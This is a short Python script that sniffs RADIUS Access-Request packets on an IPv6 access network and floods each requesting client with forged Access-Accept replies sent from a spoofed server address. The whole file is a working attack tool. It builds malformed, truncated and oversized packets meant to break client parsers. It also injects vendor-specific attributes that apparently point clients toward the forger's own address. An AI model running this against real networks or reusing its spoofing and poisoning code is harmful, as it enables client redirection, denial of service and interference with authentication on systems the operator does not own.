# SPDX-License-Identifier: Apache-2.0
"""Answers each Access-Request on the line with forged replies (RFC 2865) from the server's own address.

Runs on the access network: forge.py <device> <server's address> [<how often>]; tells each request that it answered, how
many replies that were so far, and the request's identifier. More than once, the replies are stuffed ones, too.
"""

import os
import socket
import struct
import sys
import time

IPV6_CHECKSUM = 7  # linux/in6.h; the socket module has no name for it
ETH_P_IPV6 = 0x86DD
PORT = 1812
ACCEPT = 2
LONGEST = 4096
PAUSE = 0.002  # s: what comes faster than it can be read never reaches the client
# 204 and 207 of vendor 22197, which lead to the forger.
POISON = bytes.fromhex("1a0c 000056b5 cc06 cb007142  1a18 000056b5 cf12 20010db80bad0000 0000000000000001")


def forgeries(identifier):
    """Replies that look more and less right; none knows the secret."""
    whole = struct.pack("!BBH", ACCEPT, identifier, 20 + len(POISON)) + os.urandom(16) + POISON
    yield whole  # a wrong Response Authenticator
    yield whole[:-7]  # shorter than its length says
    yield whole[:20] + b"\x1a\0" + whole[22:]  # an attribute of length 0
    yield bytes([ACCEPT, identifier ^ 0xFF]) + whole[2:]  # the answer to another request


def stuffed(identifier):
    """As long as a reply may be (RFC 2865 section 3), full of attributes without a value; longer; and nothing else."""
    full = (
        struct.pack("!BBH", ACCEPT, identifier, LONGEST)
        + os.urandom(16)
        + b"\x12\x02" * ((LONGEST - 20) // 2)
    )
    yield full
    yield full[:2] + b"\xff\xff" + full[4:] + full[20:]  # which its length exceeds by far
    yield full[:20]  # cut behind the head
    yield b""


def main(device, server, often="1"):
    """Until it is killed."""
    sent = 0
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IPV6))
    sniffer.bind((device, ETH_P_IPV6))
    raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_UDP)
    raw.setsockopt(socket.IPPROTO_IPV6, IPV6_CHECKSUM, 6)
    raw.bind((server, 0))
    wanted = socket.inet_pton(socket.AF_INET6, server)
    while True:
        packet = sniffer.recv(65536)
        port, to = struct.unpack("!HH", packet[40:44])
        if packet[6] == socket.IPPROTO_UDP and packet[24:40] == wanted and to == PORT and packet[48] == 1:
            client = socket.inet_ntop(socket.AF_INET6, packet[8:24])
            for number in range(int(often)):
                replies = [*forgeries(packet[49]), *(stuffed(packet[49]) if int(often) > 1 else ())]
                for reply in replies:
                    raw.sendto(struct.pack("!HHHH", PORT, port, 8 + len(reply), 0) + reply, (client, 0))
                    sent += 1
                    time.sleep(PAUSE if number else 0)
            print(f"forged replies to {client}", sent, packet[49], flush=True)


main(*sys.argv[1:])
